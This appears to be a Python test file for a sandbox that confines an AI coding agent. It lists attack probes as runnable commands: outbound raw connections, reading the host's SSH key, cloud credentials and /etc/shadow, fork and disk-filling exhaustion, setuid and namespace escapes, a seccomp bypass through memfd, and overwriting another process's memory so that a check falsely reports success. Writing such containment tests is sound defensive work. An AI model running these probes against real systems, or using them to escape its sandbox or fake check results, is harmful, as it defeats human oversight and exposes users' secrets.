"""Every attack as a script that ends with 0 only if it worked, and every need of honest work as one that must.

Each attack is harmless where it works: the tests run as root, and setting the core pattern did work once.
"""

import shlex

from tests.workshop.walls.lab import python_inside


def _call(name: str, *arguments: str) -> str:
    head = "import ctypes, platform, sys\nl = ctypes.CDLL(None, use_errno=True)"
    return python_inside(f"{head}\nsys.exit(l.{name}({', '.join(arguments)}) < 0)")


def _connect(family: str, address: str, kind: str = "SOCK_STREAM") -> str:
    head = f"import os, socket\ns = socket.socket(socket.{family}, socket.{kind})"
    return python_inside(f"{head}\ns.settimeout(3); s.connect({address}); s.send(b'x')")


def _rewrite(victim: str) -> str:
    """Make another process end with 0 by its memory; what asks for it ends with 1, unless that is the process."""
    return f"python3 - {victim} <<'EOF'\n{REWRITE}\nEOF\nsleep 0.2 & wait; exit 1"


def _open_socket(*facts: int) -> str:
    return python_inside(f"import socket\nsocket.socket{facts}")


FORKING = """
import os, sys, time
kids = []
try:
    for _ in range(1000):
        pid = os.fork()
        if pid == 0: time.sleep(60); os._exit(0)
        kids.append(pid)
except OSError: pass
for pid in kids: os.kill(pid, 9)
sys.exit(len(kids) < 1000)
"""

WRITABLE_KERNEL_FILES = """
import os, stat, sys
found = []
for place, folders, files in os.walk('/proc'):
    if place == '/proc':
        folders[:] = [f for f in folders if not f.isdigit() and f not in ('self', 'thread-self')]
    for name in files:
        path = os.path.join(place, name)
        try:
            if not stat.S_ISREG(os.lstat(path).st_mode): continue
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            found.append(path)
        except OSError: pass
print(found)
sys.exit(not found)
"""

FILES_OF_PROCESSES = """
import os, stat, sys
found = []
for place, folders, files in os.walk('/proc'):
    if place == '/proc':
        folders[:] = [f for f in folders if f.isdigit() or f in ('self', 'thread-self')]
    for name in files:
        path = os.path.join(place, name)
        try:
            if not stat.S_ISREG(os.lstat(path).st_mode): continue
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            found.append(path)
        except OSError: pass
print(found[:20])
sys.exit(not found)
"""

REWRITE = """
import platform, sys
victim = sys.argv[1]
nop, leave = {  # whatever it does next, it ends with 0
    'x86_64': (b'\\x90', bytes.fromhex('31ffb8e70000000f05')),
    'aarch64': (bytes.fromhex('1f2003d5'), bytes.fromhex('000080d2c80b80d2010000d4')),
}[platform.machine()]
written = 0
for line in open(f'/proc/{victim}/maps'):
    words = line.split()
    if 'x' not in words[1] or words[-1] == '[vsyscall]': continue
    start, end = (int(one, 16) for one in words[0].split('-'))
    text = nop * ((end - start - len(leave)) // len(nop)) + leave
    start = end - len(text)
    try:
        with open(f'/proc/{victim}/mem', 'r+b', buffering=0) as memory:
            memory.seek(start)
            written += memory.write(text)
    except OSError as error:
        print(error, file=sys.stderr)
sys.exit(not written)
"""

WRITE_BY_CALL = """
import ctypes, platform, sys
class Piece(ctypes.Structure): _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
victim = int(sys.argv[1])
start = next(int(line.split('-')[0], 16) for line in open(f'/proc/{victim}/maps') if ' rw-p ' in line)
held = ctypes.create_string_buffer(1)
mine, its = Piece(ctypes.addressof(held), 1), Piece(start, 1)
call = ctypes.CDLL(None, use_errno=True).syscall
for number in (310, 311) if platform.machine() == 'x86_64' else (270, 271):  # it keeps the byte it has
    sent = call(number, victim, ctypes.byref(mine), *map(ctypes.c_ulong, (1, ctypes.addressof(its), 1, 0)))
    if sent != 1: sys.exit(1)
"""

FROM_MEMORY = """
import os, subprocess, sys
fd = os.memfd_create('x', 0)
os.write(fd, open('/usr/bin/grep', 'rb').read())
look = [f'/proc/self/fd/{fd}', '-q', 'Seccomp:.0', '/proc/self/status']
sys.exit(subprocess.run(look, pass_fds=[fd]).returncode)
"""

CLONE = """
import ctypes, os, platform, sys
number = 56 if platform.machine() == 'x86_64' else 220
pid = ctypes.CDLL(None).syscall(number, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
sys.exit(pid < 0)
"""

CLONE3 = """
import ctypes, os, struct, sys
args = struct.pack('8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0)
pid = ctypes.CDLL(None).syscall(435, args, len(args))
if pid == 0: os._exit(0)
sys.exit(pid < 0)
"""

OTHER_DIALECT = """
import ctypes, mmap, sys
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex('b814000000cd80c3'))  # mov eax, 20 (getpid); int 0x80; ret
code = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
sys.exit(code() <= 0)
"""

THREADS = """
import threading
go = threading.Event()
threads = [threading.Thread(target=go.wait) for _ in range(200)]
for thread in threads: thread.start()
go.set()
for thread in threads: thread.join()
"""

MAPPED = "import mmap\nmmap.mmap(-1, 8 << 30, flags=0x4022)"  # private and without reserve: nothing is touched
KEYCTL = "250 if platform.machine() == 'x86_64' else 219"
TERMINAL = "import fcntl, os\na, b = os.openpty()\nfcntl.ioctl(b, 0x5412, b'x')"
LOOPBACK = "import socket\ns = socket.create_server(('127.0.0.1', 0))\nsocket.create_connection(s.getsockname())"
CORE_PATTERN = "/proc/sys/kernel/core_pattern"
DISKS = "/dev/sd* /dev/vd* /dev/nvme* /dev/mem /dev/kmsg"
SETUID = "test $(./setuid-bash -p -c 'id -u') -lt $(id -u) || grep -q 'NoNewPrivs:.0' /proc/self/status"

PROVEN = {
    # what proofs/sandbox/probe.sh tried
    "reach the egress port though nobody serves it": _connect("AF_INET", "('127.0.0.1', 3128)"),
    "reach the model port though nobody serves it": _connect("AF_INET", "('127.0.0.1', 8317)"),
    "reach a port of the host": _connect("AF_INET", "('127.0.0.1', int(os.environ['HOST_PORT']))"),
    "open a raw connection to an outside address": "timeout 3 bash -c 'echo > /dev/tcp/192.0.2.1/443'",
    "look a name up": "timeout 3 getent hosts allowed.test",
    "send a datagram to an outside address": _connect("AF_INET", "('192.0.2.1', 53)", "SOCK_DGRAM"),
    "read the person's key": 'grep -q FAKE "$HOST_HOME/.ssh/id_rsa"',
    "read the person's cloud credentials": 'grep -q FAKE "$HOST_HOME/.aws/credentials"',
    "list the person's home": 'ls "$HOST_HOME"',
    "read the shadow file": "cat /etc/shadow",
    "find a secret in the environment": "env | grep FAKE",
    "find a secret in any process's environment": "cat /proc/*/environ 2>/dev/null | grep -a FAKE",
    "find host paths in the first process's command line": "tr '\\0' ' ' < /proc/1/cmdline | grep 'midwatch-[l]ab'",
    "find a secret in the mount table": "grep FAKE /proc/self/mountinfo",
    "write the mirror's objects": 'touch "$OBJECTS/zz"',
    "write the system's programs": "touch /usr/midwatch-zz",
    "write the root folder": "touch /midwatch-zz",
    "signal a process of the host": 'kill -0 "$BYSTANDER"',
    "see a process of the host": 'grep -q sleep "/proc/$BYSTANDER/cmdline"',
    "trace a process": _call("ptrace", "0", "0", "0", "0"),
    "make a user namespace": "unshare -Ur true",
    "mount": "mount -t tmpfs x /tmp",
    "open a socket to the hypervisor": _open_socket(40, 1),
    "open a packet socket": _open_socket(17, 3),
    "set up io_uring": _call("syscall", "425", "8", "ctypes.create_string_buffer(120)"),
    "use the kernel's keyring": _call("syscall", KEYCTL, "0", "-3", "1"),
    "find daemons' sockets": "ls /var/run/docker.sock /run/dbus /run/systemd 2>/dev/null | grep .",
    "fork without end": python_inside(FORKING),
    "allocate eight gigabytes": python_inside(MAPPED),
    "fill the folder for temporary files": "dd if=/dev/zero of=/tmp/big bs=1M count=600",
    "type into a terminal": python_inside(TERMINAL),
}

OWN = {
    "write a kernel setting": "cd /proc/sys; cat vm/swappiness > vm/swappiness || hostname > kernel/hostname",
    "set the core pattern": f'x=$(cat {CORE_PATTERN}); echo "$x" > {CORE_PATTERN}',
    "press the magic key": "echo h > /proc/sysrq-trigger",
    "open any kernel file for writing": python_inside(WRITABLE_KERNEL_FILES),
    "talk to an abstract socket of the host": _connect("AF_UNIX", "'\\0' + os.environ['ABSTRACT']"),
    "talk to a daemon of the host by path": _connect("AF_UNIX", "os.environ['HOST_SOCKET']"),
    "find an inherited descriptor": "ls /proc/self/fd | grep -vxE '0|1|2|3'",
    "rise by a setuid program": SETUID,
    "reach the host through any process's root": 'ls -d /proc/[0-9]*/root"$HOST_HOME" | grep .',
    "reach the host through any process's folder": "ls -d /proc/[0-9]*/cwd/../person | grep .",
    "climb out of the tree": 'ls ../person || ls "../../../..$HOST_HOME"',
    "follow a link out of the tree": 'ln -sfn "$HOST_HOME" way-out && ls way-out/',
    "link a host file into the tree": 'ln -f "$HOST_HOME/.ssh/id_rsa" stolen',
    "swap the tree for a link": "cd / && mv /ws /was && ln -s /etc /ws",
    "run free of the filter from memory": python_inside(FROM_MEMORY),
    "make a device": "mknod dev b 8 0 || mknod dev c 1 1",
    "read a disk": f"for d in {DISKS}; do head -c1 $d && exit 0; done; exit 1",
    "fill the folder of devices": "dd if=/dev/zero of=/dev/big bs=1M count=1",
    "fill shared memory": "dd if=/dev/zero of=/dev/shm/big bs=1M count=100",
    "fill home": "dd if=/dev/zero of=$HOME/big bs=1M count=300",
    "write a huge file": "truncate -s 3G huge",
    "change the root folder": _call("chroot", "b'/tmp'"),
    "change the root folder in a namespace": "unshare -r chroot / true",
    "remount the system writable": "mount -o remount,rw,bind /usr",
    "unmount what covers kernel files": "umount /proc/sys",
    "clone into a namespace": python_inside(CLONE),
    "clone where flags cannot be seen": python_inside(CLONE3),
    "read the kernel's keys": "grep . /proc/keys",
    "read the machine's private certificates": "ls /etc/ssl/private/ || ls /etc/pki/tls/private/",
    "change the first process for next time": "echo x >> /sbx/inside.py || rm /sbx/inside.py",
    "raise a limit again": "ulimit -n 100000 || ulimit -c unlimited || ulimit -u 100000",
    "regain a capability": "grep -E 'Cap(Prm|Eff|Inh|Amb):\\s*0*[1-9a-f]' /proc/self/status",
    "become somebody else": "python3 -c 'import os; os.setuid(12345)'",
    "call the kernel in another dialect": python_inside(OTHER_DIALECT),
    "speak to the kernel's other message buses": _open_socket(16, 3, 16),
    "open a crypto socket": _open_socket(38, 5),
    "add a network card": "ip link add dummy0 type dummy || ip link set lo down",
    "learn the host's name": "test $(hostname) != sbx",
    # Who can write the memory of the process that says how a check ended can say that it passed.
    "end well by the first process's memory": _rewrite("1"),
    "end well by the memory of the shell that waits": f"bash -c {shlex.quote(_rewrite('$PPID'))}; exit 1",
    "write another process's memory by a call": (
        f"sleep 60 >&- 2>&- & sleep 0.5; python3 - $! <<'EOF'\n{WRITE_BY_CALL}\nEOF"
    ),
    "open any file of a process for writing": python_inside(FILES_OF_PROCESSES),
}

ATTACKS = PROVEN | OWN

WORK_OUTSIDE = (
    # Safe to run without walls, where they must succeed: so a failure inside means something.
    "reach a port of the host",
    "read the person's key",
    "read the person's cloud credentials",
    "list the person's home",
    "find a secret in any process's environment",
    "signal a process of the host",
    "see a process of the host",
    "trace a process",
    "make a user namespace",
    "change the root folder in a namespace",
    "use the kernel's keyring",
    "talk to an abstract socket of the host",
    "talk to a daemon of the host by path",
    "reach the host through any process's root",
    "reach the host through any process's folder",
    "climb out of the tree",
    "follow a link out of the tree",
    "link a host file into the tree",
    "run free of the filter from memory",
    "clone into a namespace",
    "clone where flags cannot be seen",
    "fill shared memory",
    "learn the host's name",
    "end well by the memory of the shell that waits",
    "write another process's memory by a call",
    "open any file of a process for writing",
)

NEEDS = {
    "write the tree": "echo x > new.txt",
    "commit": "echo $RANDOM >> app.py && git add -A && git commit -qm agent && git log -1 --format=%s | grep -x agent",
    "see the history through the mirror": 'test "$(git rev-list --count HEAD)" -ge 4 && git show HEAD~3:app.py',
    "check the repository": "git fsck --strict",
    "make a bundle": "git bundle create -q /tmp/b HEAD && git bundle verify -q /tmp/b",
    "run python": "python3 -c 'import ssl, sqlite3, multiprocessing as m; print(m.Pool(2).map(abs, [-1]))'",
    "run node, where there is one": "! test -x /usr/bin/node || node -e 'console.log(1)'",
    "build with make": "printf 'a:\\n\\techo built > a\\n' > Makefile && make -s a && grep -x built a",
    "compile, where there is a compiler": (
        "! test -x /usr/bin/gcc || { echo 'int main(){return 0;}' > a.c && gcc -o a.out a.c && ./a.out; }"
    ),
    "use home, tmp and shared memory": "echo x > ~/x && echo x > /tmp/x && echo x > /dev/shm/x",
    "know who it is": 'test "$(whoami)" = agent && test "$HOME" = /home/agent',
    "talk to itself over the loopback": python_inside(LOOPBACK),
    "pipe into a reader that leaves early": "yes | head -1; test ${PIPESTATUS[0]} = 141",
    "use a few hundred threads": python_inside(THREADS),
    "write to its output by name": "(echo a > /dev/stdout) | grep a && (echo b > /dev/fd/1) > out && grep b out",
    "name its processes and threads": (
        "python3 -c 'import ctypes; assert ctypes.CDLL(None).prctl(15, b\"worker\", 0, 0, 0) == 0'"
    ),
    "plant links and hooks that stay inert": "ln -sf /etc/shadow link && git config alias.x '!touch /ws/ran'",
}
